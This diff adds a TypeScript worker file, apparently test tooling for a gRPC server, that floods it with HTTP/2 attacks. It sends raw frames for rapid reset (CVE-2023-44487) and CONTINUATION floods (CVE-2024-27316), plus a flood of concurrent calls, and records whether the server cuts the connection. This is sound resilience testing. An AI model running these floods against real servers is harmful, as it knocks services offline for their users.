@@ -1,0 +1,98 @@
+import { parentPort, workerData } from "node:worker_threads";
+import { rawCall, rawSession } from "@interlock/bot/testing";
+import { callHeaders, connectRaw, flag, frame, frameType, headerBlock } from "./raw-http2.js";
+
+/** What an attacker is started with, in a thread of his own, so that his work is not the server's. */
+export interface Assault {
+  readonly kind: keyof typeof assaults;
+  readonly port: number;
+  readonly path: string;
+  /** Key and certificate, PEM. */
+  readonly key: string;
+  readonly cert: string;
+}
+
+/** What became of it. */
+export interface Outcome {
+  /** Whether the server closed the connection before the attacker was through. */
+  readonly closed: boolean;
+  /** Calls or frames that were sent. */
+  readonly sent: number;
+  /** Answers by their gRPC status; `none` for calls that got none. */
+  readonly statuses: Readonly<Record<string, number>>;
+}
+
+const most = 30_000;
+
+const assaults = {
+  /** Opens streams and resets them at once (CVE-2023-44487). */
+  rapidReset: (assault: Assault) =>
+    framesOf(assault, (i) => {
+      const stream = 2 * i + 1;
+      const block = headerBlock(callHeaders(assault.path));
+      const cancel = Buffer.of(0, 0, 0, 8);
+      return Buffer.concat([
+        frame(frameType.headers, flag.endHeaders, stream, block),
+        frame(frameType.rstStream, 0, stream, cancel),
+      ]);
+    }),
+
+  /** Headers that never end (CVE-2024-27316 and its like). */
+  continuation: (assault: Assault) =>
+    framesOf(assault, (i) =>
+      i === 0
+        ? frame(frameType.headers, 0, 1, headerBlock(callHeaders(assault.path)))
+        : frame(frameType.continuation, 0, 1, headerBlock([[`x-${i}`, "a".repeat(1_000)]])),
+    ),
+
+  /** The same with frames in which there is nothing. */
+  emptyContinuation: (assault: Assault) =>
+    framesOf(assault, (i) =>
+      i === 0
+        ? frame(frameType.headers, 0, 1, headerBlock(callHeaders(assault.path)))
+        : frame(frameType.continuation, 0, 1),
+    ),
+
+  /** Calls that are in order, as many as will go. */
+  async goodCalls({ port, path, key, cert }: Assault): Promise<Outcome> {
+    const session = rawSession(port, { key, cert });
+    const statuses: Record<string, number> = {};
+    let sent = 0;
+    async function keepCalling(): Promise<void> {
+      while (sent < most && !session.closed && !session.destroyed) {
+        sent++;
+        const { status = "none" } = await rawCall(session, path).catch(() => ({ status: undefined }));
+        statuses[status] = (statuses[status] ?? 0) + 1;
+      }
+    }
+    await Promise.all(Array.from({ length: 200 }, keepCalling));
+    const closed = session.destroyed || session.closed;
+    session.destroy();
+    return { closed, sent, statuses };
+  },
+};
+
+/**
+ * Writes frames until the server has had enough: it closes, or it says GOAWAY, after which Node reads nothing more of
+ * the connection, and grpc-js closes it when its keepalive is not answered.
+ */
+async function framesOf({ port, key, cert }: Assault, frameOf: (i: number) => Buffer): Promise<Outcome> {
+  const connection = await connectRaw(port, { key, cert });
+  let sent = 0;
+  let enough = false;
+  const over = Promise.race([connection.closed, connection.sentAway]).then(() => (enough = true));
+  while (sent < most && !enough) {
+    await Promise.race([connection.write(frameOf(sent)), over]);
+    sent++;
+  }
+  // What was written last may still be on its way.
+  const late = new Promise<void>((resolve) => setTimeout(resolve, 5_000).unref());
+  await Promise.race([over, late]);
+  connection.destroy();
+  return { closed: enough, sent, statuses: {} };
+}
+
+if (parentPort) {
+  const assault = workerData as Assault;
+  parentPort.postMessage(await assaults[assault.kind](assault));
+}
